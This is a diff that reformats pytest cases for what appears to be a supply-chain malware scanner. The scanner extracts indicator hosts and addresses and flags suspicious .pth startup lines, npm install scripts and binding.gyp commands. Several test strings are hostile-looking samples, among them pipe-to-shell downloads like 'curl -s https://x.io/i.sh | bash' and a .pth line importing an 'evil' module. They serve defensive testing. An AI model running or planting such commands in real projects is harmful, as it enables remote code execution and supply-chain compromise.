@@ -33,9 +33,13 @@ def rules(module: object, content: str, path: str) -> list[str]:
 @pytest.mark.parametrize(
     ("text", "kind", "found"),
     [
-        ('u = "https://user:pw@Evil.Example.net:8080/x?a=b"', "host", "evil.example.net"), ("hxxps://evil[.]example[.]net", "host", "evil.example.net"),
-        ('host="sub.evil.io"', "host", "sub.evil.io"), ("connect('10.20.30.40', 80)", "address", "10.20.30.40"), ("10[.]20[.]30[.]40", "address", "10.20.30.40"),
-        ("systemctl start pgsql-monitor.service", "literal", "pgsql-monitor.service"), ("cat ~/.local/share/kitty/cat.py", "literal", "/.local/share/kitty/cat.py"),
+        ('u = "https://user:pw@Evil.Example.net:8080/x?a=b"', "host", "evil.example.net"),
+        ("hxxps://evil[.]example[.]net", "host", "evil.example.net"),
+        ('host="sub.evil.io"', "host", "sub.evil.io"),
+        ("connect('10.20.30.40', 80)", "address", "10.20.30.40"),
+        ("10[.]20[.]30[.]40", "address", "10.20.30.40"),
+        ("systemctl start pgsql-monitor.service", "literal", "pgsql-monitor.service"),
+        ("cat ~/.local/share/kitty/cat.py", "literal", "/.local/share/kitty/cat.py"),
     ],
 )
 def test_marks_are_extracted(text: str, kind: str, found: str) -> None:
@@ -71,10 +75,21 @@ def test_a_cap_that_was_hit_is_a_shortfall() -> None:
 @pytest.mark.parametrize(
     ("line", "fires"),
     [
-        ("import os; exec('x')", True), ("import mystartup", True), ("import _virtualenv; import evil", True), ("import _virtualenv", False), ("./src", False),
-        ("import __editable___foo_1_finder; __editable___foo_1_finder.install()", False), ("import __editable___a; __editable___b.install()", True),
-        ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ", False),
-        ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('evil').add_shim(); ", True),
+        ("import os; exec('x')", True),
+        ("import mystartup", True),
+        ("import _virtualenv; import evil", True),
+        ("import _virtualenv", False),
+        ("./src", False),
+        ("import __editable___foo_1_finder; __editable___foo_1_finder.install()", False),
+        ("import __editable___a; __editable___b.install()", True),
+        (
+            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
+            False,
+        ),
+        (
+            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('evil').add_shim(); ",
+            True,
+        ),
     ],
 )
 def test_path_files(line: str, fires: bool) -> None:
@@ -88,8 +103,16 @@ def test_a_checkpoint_is_no_path_file() -> None:
 @pytest.mark.parametrize(
     ("command", "fires"),
     [
-        ("node setup_bun.js", True), ("curl -s https://x.io/i.sh | bash", True), ("node -e \"require('child_process').exec('x')\"", True), ("bun run index.js", True),
-        ("node-gyp rebuild", False), ("husky install", False), ("prebuild-install || node-gyp rebuild", False), ("tsc", False), ("npm run build", False), ("./tools/setup", True),
+        ("node setup_bun.js", True),
+        ("curl -s https://x.io/i.sh | bash", True),
+        ("node -e \"require('child_process').exec('x')\"", True),
+        ("bun run index.js", True),
+        ("node-gyp rebuild", False),
+        ("husky install", False),
+        ("prebuild-install || node-gyp rebuild", False),
+        ("tsc", False),
+        ("npm run build", False),
+        ("./tools/setup", True),
     ],
 )
 def test_install_scripts(command: str, fires: bool) -> None:
@@ -101,7 +124,14 @@ def test_install_scripts(command: str, fires: bool) -> None:
 
 @pytest.mark.parametrize(
     ("command", "fires"),
-    [("node -p \\\"require('node-addon-api').include\\\"", False), ("pkg-config --cflags glib-2.0", False), ("node -e \\\"require('nan')\\\"", False), ("node index.js", False), ("curl x | sh", True), ("node a.js > /dev/null && echo b", True)],
+    [
+        ("node -p \\\"require('node-addon-api').include\\\"", False),
+        ("pkg-config --cflags glib-2.0", False),
+        ("node -e \\\"require('nan')\\\"", False),
+        ("node index.js", False),
+        ("curl x | sh", True),
+        ("node a.js > /dev/null && echo b", True),
+    ],
 )
 def test_gyp_commands(command: str, fires: bool) -> None:
     assert bool(rules(hooks, '{"targets": [{"sources": ["<!(' + command + ')"]}]}', "binding.gyp")) == fires
